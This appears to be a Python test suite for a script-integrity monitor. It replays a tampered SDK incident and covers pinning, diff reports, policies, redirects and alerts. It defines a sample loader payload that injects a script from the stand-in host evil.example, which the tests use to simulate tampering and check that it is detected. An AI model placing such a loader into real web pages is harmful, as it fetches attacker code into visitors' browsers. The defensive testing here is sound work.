"""`pin` and `check`, run as the real command against loopback servers: the TaskRouter
incident replayed, a payment page's changes, policies, evidence and alerts."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests import servers
from tests.servers import Server

SDK = b"(function(){var TaskRouter={version:'1.20'};window.Twilio={TaskRouter:TaskRouter};})();\n"
LOADER = b"(function(){var s=document.createElement('script');s.src='https://evil.example/m.js';document.head.appendChild(s);})();\n"


def write_config(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "sri-guard.toml"
    path.write_text(body)
    return path


def report(r: Any) -> dict[str, Any]:
    return json.loads(r.stdout)  # type: ignore[no-any-return]


def rules(doc: dict[str, Any]) -> list[str]:
    return sorted(f["rule"] for f in doc["findings"])


def test_taskrouter_incident_replay(run, tmp_path: Path, server: Server) -> None:  # type: ignore[no-untyped-def]
    url = server.route("/sdk/v1.20/taskrouter.min.js", SDK, content_type="application/javascript")
    write_config(tmp_path, f'[[target]]\nurl = "{url}"\nname = "taskrouter"\n')

    first = run("check", "-f", "json")
    assert first.code == 0, first.stderr
    assert rules(report(first)) == ["unpinned"]

    pinned = run("pin")
    assert pinned.code == 0, pinned.stderr
    files = list((tmp_path / "baselines").glob("*.json"))
    assert len(files) == 1
    baseline = json.loads(files[0].read_text())
    assert baseline["kind"] == "file" and baseline["file"]["integrity"][0].startswith("sha384-")

    clean = run("check", "--notify", f"json://127.0.0.1:{server.port}/hook")
    assert clean.code == 0, clean.stdout + clean.stderr
    assert server.posts == []

    # The attacker appends a loader to the hosted file.
    server.route(
        "/sdk/v1.20/taskrouter.min.js", SDK + LOADER, content_type="application/javascript"
    )
    tampered = run("check", "-f", "json", "--notify", f"json://127.0.0.1:{server.port}/hook")
    assert tampered.code == 1
    doc = report(tampered)
    changed = [f for f in doc["findings"] if f["rule"] == "content-changed"]
    assert len(changed) == 1
    assert changed[0]["expected"] == baseline["file"]["integrity"][0]
    assert "confirmed by a second fetch" in changed[0]["message"]
    assert "evil.example" in changed[0]["detail"]
    assert any(
        line.startswith("+") and "evil.example" in line
        for line in changed[0]["detail"].splitlines()
    )
    # Both bodies are in the evidence store.
    objects = sorted(p for p in (tmp_path / ".sri-guard" / "objects").rglob("*") if p.is_file())
    bodies = {p.read_bytes() for p in objects}
    assert SDK in bodies and SDK + LOADER in bodies
    # The webhook got one short alert, with no secrets.
    assert len(server.posts) == 1 and server.posts[0][0] == "/hook"
    alert = json.loads(server.posts[0][1])
    assert "content-changed" in alert["message"]
    assert "hook" not in alert["message"]
    # The baseline was not touched by check.
    assert json.loads(files[0].read_text()) == baseline

    # Restoring the file makes check pass again.
    server.route("/sdk/v1.20/taskrouter.min.js", SDK, content_type="application/javascript")
    assert run("check").code == 0

    history = run("history", "taskrouter")
    assert history.code == 0
    assert "content-changed" in history.stdout
    assert history.stdout.count("check") >= 3


def test_text_report_shows_the_diff(run, tmp_path: Path, server: Server) -> None:  # type: ignore[no-untyped-def]
    url = server.route("/sdk.js", SDK, content_type="application/javascript")
    write_config(tmp_path, f'[[target]]\nurl = "{url}"\n')
    assert run("pin").code == 0
    server.route("/sdk.js", SDK + LOADER, content_type="application/javascript")
    r = run("check")
    assert r.code == 1
    assert "CRITICAL content-changed" in r.stdout
    assert "evil.example" in r.stdout


def test_pin_twice_rewrites_nothing(run, tmp_path: Path, server: Server) -> None:  # type: ignore[no-untyped-def]
    url = server.route("/sdk.js", SDK, content_type="application/javascript")
    write_config(tmp_path, f'[[target]]\nurl = "{url}"\n')
    assert run("pin").code == 0
    path = next((tmp_path / "baselines").glob("*.json"))
    before = path.read_bytes()
    mtime = path.stat().st_mtime_ns
    again = run("pin")
    assert again.code == 0 and "already up to date" in again.stderr
    assert path.read_bytes() == before and path.stat().st_mtime_ns == mtime


def test_failed_fetch_never_overwrites_a_baseline_nor_reports_a_change(
    run, tmp_path: Path, server: Server
) -> None:  # type: ignore[no-untyped-def]
    url = server.route("/sdk.js", SDK, content_type="application/javascript")
    write_config(tmp_path, f'[[target]]\nurl = "{url}"\n')
    assert run("pin").code == 0
    path = next((tmp_path / "baselines").glob("*.json"))
    before = path.read_bytes()
    server.route("/sdk.js", handler=servers.truncated(SDK[:10], len(SDK)))
    repin = run("pin", "-f", "json", "--timeout", "5")
    assert repin.code == 1
    assert rules(report(repin)) == ["fetch-failed"] * len(report(repin)["findings"])
    assert path.read_bytes() == before
    checked = run("check", "-f", "json", "--timeout", "5")
    assert checked.code == 1
    assert set(rules(report(checked))) == {"fetch-failed"}


def test_flapping_cdn_is_reported_once_as_such(run, tmp_path: Path, server: Server) -> None:  # type: ignore[no-untyped-def]
    url = server.route("/sdk.js", SDK, content_type="application/javascript")
    write_config(tmp_path, f'profiles = ["desktop"]\n[[target]]\nurl = "{url}"\n')
    assert run("pin").code == 0
    server.route(
        "/sdk.js",
        handler=servers.sequence(
            servers.respond(SDK + b"//v2\n", 200, {"Content-Type": "application/javascript"}),
            servers.respond(SDK, 200, {"Content-Type": "application/javascript"}),
        ),
    )
    doc = report(run("check", "-f", "json"))
    changed = [f for f in doc["findings"] if f["rule"] == "content-changed"]
    assert len(changed) == 1
    assert "flaps between versions" in changed[0]["message"]


def test_rollout_with_pin_add_and_allow_change_policy(run, tmp_path: Path, server: Server) -> None:  # type: ignore[no-untyped-def]
    sdk = server.route("/sdk.js", SDK, content_type="application/javascript")
    tag = server.route("/gtm.js", b"gtm(1)", content_type="application/javascript")
    write_config(
        tmp_path,
        f'[[target]]\nurl = "{sdk}"\nname = "sdk"\n\n'
        f'[[target]]\nurl = "{tag}"\nname = "gtm"\npolicy = "allow-change"\n',
    )
    assert run("pin").code == 0
    # The tag manager changes: tracked at info, the run passes.
    server.route("/gtm.js", b"gtm(2)", content_type="application/javascript")
    r = run("check", "-f", "json")
    assert r.code == 0
    [f] = report(r)["findings"]
    assert (f["rule"], f["severity"]) == ("content-changed", "info")
    # A rollout: v2 of the SDK is approved in addition to v1.
    server.route("/sdk.js", SDK + b"//v2\n", content_type="application/javascript")
    assert run("check", "sdk").code == 1
    assert run("pin", "--add", "sdk").code == 0
    assert run("check", "sdk").code == 0
    server.route("/sdk.js", SDK, content_type="application/javascript")
    assert run("check", "sdk").code == 0
    path = next(p for p in (tmp_path / "baselines").glob("*.json") if "sdk" in p.name)
    assert len(json.loads(path.read_text())["file"]["integrity"]) == 2


def test_owner_and_justification_are_preserved(run, tmp_path: Path, server: Server) -> None:  # type: ignore[no-untyped-def]
    url = server.route("/sdk.js", SDK, content_type="application/javascript")
    write_config(tmp_path, f'[[target]]\nurl = "{url}"\n')
    assert run("pin").code == 0
    path = next((tmp_path / "baselines").glob("*.json"))
    doc = json.loads(path.read_text())
    doc["file"]["owner"] = "payments-team"
    doc["file"]["justification"] = "Twilio TaskRouter for the support widget"
    path.write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n")
    server.route("/sdk.js", SDK + b"//v2\n", content_type="application/javascript")
    assert run("pin").code == 0
    after = json.loads(path.read_text())
    assert after["file"]["owner"] == "payments-team"
    assert after["file"]["justification"] == "Twilio TaskRouter for the support widget"


def test_redirect_changed(run, tmp_path: Path, server: Server, cdn: Server) -> None:  # type: ignore[no-untyped-def]
    cdn.route("/v1/sdk.js", SDK, content_type="application/javascript")
    cdn.route("/v2/sdk.js", SDK, content_type="application/javascript")
    server.route("/sdk.js", handler=servers.redirect(cdn.url("/v1/sdk.js")))
    write_config(tmp_path, f'[[target]]\nurl = "{server.url("/sdk.js")}"\n')
    assert run("pin").code == 0
    doc = json.loads(next((tmp_path / "baselines").glob("*.json")).read_text())
    assert doc["file"]["final_url"] == cdn.url("/v1/sdk.js")
    assert doc["file"]["redirects"] == [server.url("/sdk.js")]
    assert run("check").code == 0
    # Same bytes, but now served from somewhere else.
    server.route("/sdk.js", handler=servers.redirect(cdn.url("/v2/sdk.js")))
    r = run("check", "-f", "json")
    assert r.code == 1
    [f] = report(r)["findings"]
    assert f["rule"] == "redirect-changed"
    assert (f["expected"], f["actual"]) == (cdn.url("/v1/sdk.js"), cdn.url("/v2/sdk.js"))
